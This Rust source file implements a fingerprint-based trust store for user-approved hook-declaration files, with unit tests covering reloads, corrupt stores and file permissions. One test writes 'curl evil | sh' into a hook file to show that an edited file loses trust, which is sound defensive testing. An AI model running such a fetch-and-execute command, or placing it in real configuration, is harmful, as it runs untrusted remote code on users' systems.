use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use chrono::{DateTime, Utc};
use serde::{Deserialize, Serialize};
use thiserror::Error;

use crate::utils::fingerprint;

#[derive(Debug, Error)]
pub enum TrustStoreError {
    #[error("Trust store I/O error: {0}")]
    Io(#[from] std::io::Error),

    #[error("Trust store serialization error: {0}")]
    Serialize(#[from] serde_json::Error),
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum TrustStatus {
    NoFile,
    Untrusted,
    Trusted,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct TrustRecord {
    pub fingerprint: String,
    pub trusted_at: DateTime<Utc>,
}

/// Persisted fingerprints of hook-declaration files the user has approved,
/// keyed by absolute path. A stale record never grants trust on its own:
/// the file's current fingerprint has to match.
#[derive(Debug)]
pub struct TrustStore {
    path: PathBuf,
    records: BTreeMap<PathBuf, TrustRecord>,
}

impl TrustStore {
    pub fn default_path() -> PathBuf {
        dirs::data_dir()
            .unwrap_or_else(|| PathBuf::from("."))
            .join("wtdeck")
            .join("trusted.json")
    }

    /// Loads the store; a missing or corrupt file yields an empty store.
    pub fn load(path: PathBuf) -> Self {
        let records = match std::fs::read(&path) {
            Ok(bytes) => serde_json::from_slice(&bytes).unwrap_or_else(|e| {
                tracing::warn!("Discarding corrupt trust store {:?}: {}", path, e);
                BTreeMap::new()
            }),
            Err(e) if e.kind() == std::io::ErrorKind::NotFound => BTreeMap::new(),
            Err(e) => {
                tracing::warn!("Failed to read trust store {:?}: {}", path, e);
                BTreeMap::new()
            }
        };
        Self { path, records }
    }

    pub fn record(&self, config_path: &Path) -> Option<&TrustRecord> {
        self.records.get(&absolute(config_path))
    }

    /// Trust status of a file whose current content hashes to `current`.
    pub fn status_for(&self, config_path: &Path, current: &str) -> TrustStatus {
        match self.record(config_path) {
            Some(record) if record.fingerprint == current => TrustStatus::Trusted,
            _ => TrustStatus::Untrusted,
        }
    }

    /// Reads the file and compares its fingerprint with the stored one.
    pub fn check(&self, config_path: &Path) -> TrustStatus {
        match std::fs::read(config_path) {
            Ok(bytes) => self.status_for(config_path, &fingerprint(&bytes)),
            Err(e) if e.kind() == std::io::ErrorKind::NotFound => TrustStatus::NoFile,
            Err(_) => TrustStatus::Untrusted,
        }
    }

    pub fn trust(&mut self, config_path: &Path, fingerprint: &str) -> Result<(), TrustStoreError> {
        self.records.insert(
            absolute(config_path),
            TrustRecord {
                fingerprint: fingerprint.to_string(),
                trusted_at: Utc::now(),
            },
        );
        self.save()
    }

    fn save(&self) -> Result<(), TrustStoreError> {
        if let Some(dir) = self.path.parent() {
            std::fs::create_dir_all(dir)?;
        }
        let content = serde_json::to_vec_pretty(&self.records)?;
        // The store is only ever replaced whole; a torn write leaves the
        // previous file in place.
        let tmp = self.path.with_extension("json.tmp");
        std::fs::write(&tmp, content)?;
        #[cfg(unix)]
        {
            use std::os::unix::fs::PermissionsExt;
            std::fs::set_permissions(&tmp, std::fs::Permissions::from_mode(0o600))?;
        }
        std::fs::rename(&tmp, &self.path)?;
        Ok(())
    }
}

fn absolute(path: &Path) -> PathBuf {
    std::path::absolute(path).unwrap_or_else(|_| path.to_path_buf())
}

#[cfg(test)]
mod tests {
    use super::*;
    use tempfile::TempDir;

    fn setup() -> (TempDir, PathBuf, PathBuf) {
        let dir = TempDir::new().unwrap();
        let store_path = dir.path().join("data").join("trusted.json");
        let hook = dir.path().join(".wt");
        std::fs::write(&hook, "init_commands:\n  - make\n").unwrap();
        (dir, store_path, hook)
    }

    #[test]
    fn missing_file_is_no_file() {
        let (dir, store_path, _) = setup();
        let store = TrustStore::load(store_path);
        assert_eq!(store.check(&dir.path().join("absent")), TrustStatus::NoFile);
    }

    #[test]
    fn unknown_file_is_untrusted() {
        let (_dir, store_path, hook) = setup();
        assert_eq!(TrustStore::load(store_path).check(&hook), TrustStatus::Untrusted);
    }

    #[test]
    fn trusted_file_survives_reload() {
        let (_dir, store_path, hook) = setup();
        let mut store = TrustStore::load(store_path.clone());
        let fp = fingerprint(&std::fs::read(&hook).unwrap());
        store.trust(&hook, &fp).unwrap();
        assert_eq!(store.check(&hook), TrustStatus::Trusted);

        let reloaded = TrustStore::load(store_path);
        assert_eq!(reloaded.check(&hook), TrustStatus::Trusted);
        assert_eq!(reloaded.record(&hook).unwrap().fingerprint, fp);
    }

    #[test]
    fn edited_file_reverts_to_untrusted() {
        let (_dir, store_path, hook) = setup();
        let mut store = TrustStore::load(store_path);
        store
            .trust(&hook, &fingerprint(&std::fs::read(&hook).unwrap()))
            .unwrap();

        std::fs::write(&hook, "init_commands:\n  - curl evil | sh\n").unwrap();
        assert_eq!(store.check(&hook), TrustStatus::Untrusted);
        assert!(
            store.record(&hook).is_some(),
            "the stale record stays on disk; only the comparison decides"
        );
    }

    #[test]
    fn corrupt_store_loads_empty() {
        let (_dir, store_path, hook) = setup();
        std::fs::create_dir_all(store_path.parent().unwrap()).unwrap();
        std::fs::write(&store_path, "{not json").unwrap();
        let store = TrustStore::load(store_path);
        assert_eq!(store.check(&hook), TrustStatus::Untrusted);
    }

    #[cfg(unix)]
    #[test]
    fn leftover_temp_file_never_replaces_records() {
        let (_dir, store_path, hook) = setup();
        let mut store = TrustStore::load(store_path.clone());
        store.trust(&hook, &fingerprint(b"init_commands: make\n")).unwrap();

        let tmp = store_path.with_extension("json.tmp");
        assert!(!tmp.exists(), "save must not leave its temp file behind");
        std::fs::write(&tmp, "{\"half").unwrap();
        assert!(TrustStore::load(store_path.clone()).record(&hook).is_some());

        let other = hook.with_file_name("other.wt");
        store.trust(&other, "ff").unwrap();
        let reloaded = TrustStore::load(store_path);
        assert!(reloaded.record(&hook).is_some() && reloaded.record(&other).is_some());
        assert!(!tmp.exists());
    }

    #[test]
    fn store_file_is_private() {
        use std::os::unix::fs::PermissionsExt;
        let (_dir, store_path, hook) = setup();
        let mut store = TrustStore::load(store_path.clone());
        store.trust(&hook, "abc").unwrap();
        let mode = std::fs::metadata(&store_path).unwrap().permissions().mode();
        assert_eq!(mode & 0o777, 0o600);
    }
}
